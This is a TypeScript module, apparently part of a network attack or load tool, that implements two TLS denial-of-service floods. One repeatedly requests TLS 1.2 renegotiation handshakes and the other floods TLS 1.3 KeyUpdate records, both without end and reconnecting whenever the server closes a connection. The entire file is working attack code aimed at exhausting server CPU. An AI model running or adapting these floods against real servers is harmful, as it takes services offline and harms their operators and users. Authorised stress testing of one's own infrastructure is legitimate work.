import { setImmediate } from 'node:timers/promises';
import { ClientHelloMessage, HandMadeRecords } from '@latchkey/load';
import { repeatForEver, type Attack, type Target } from './attack.js';

/** Asks for another handshake of TLS 1.2 as fast as the server reads (RFC 5246, section 7.4.1.2). */
export async function renegotiate(target: Target): Promise<void> {
  const hello = await ClientHelloMessage.capture({ ...target, maxVersion: 'TLSv1.2' });
  const message = hello.records().subarray(RECORD_HEADER_LENGTH);
  await flood('TLSv1.2', (records) => records.handshake(message))(target);
}

/** Has the server make new keys of TLS 1.3 as fast as it reads (RFC 8446, section 4.6.3). */
export const updateKeys: Attack = flood('TLSv1.3', (records) => records.keyUpdate());

/** Shakes hands on ten connections, and again where the server closes one, and sends such records without end. */
function flood(protocol: 'TLSv1.2' | 'TLSv1.3', makeRecord: (records: HandMadeRecords) => Buffer): Attack {
  return (target) =>
    repeatForEver(async () => {
      const records = await HandMadeRecords.connect(target, protocol).catch(() => undefined);
      if (records === undefined) return;
      const { socket } = records;
      let goOn: (() => void) | undefined;
      socket.on('drain', () => goOn?.()).on('close', () => goOn?.());
      while (!socket.destroyed) {
        const bytes = Buffer.concat(Array.from({ length: 64 }, () => makeRecord(records)));
        const canTakeMore = socket.write(bytes);
        await (canTakeMore ? setImmediate() : new Promise<void>((resolve) => (goOn = resolve)));
      }
    });
}

const RECORD_HEADER_LENGTH = 5;
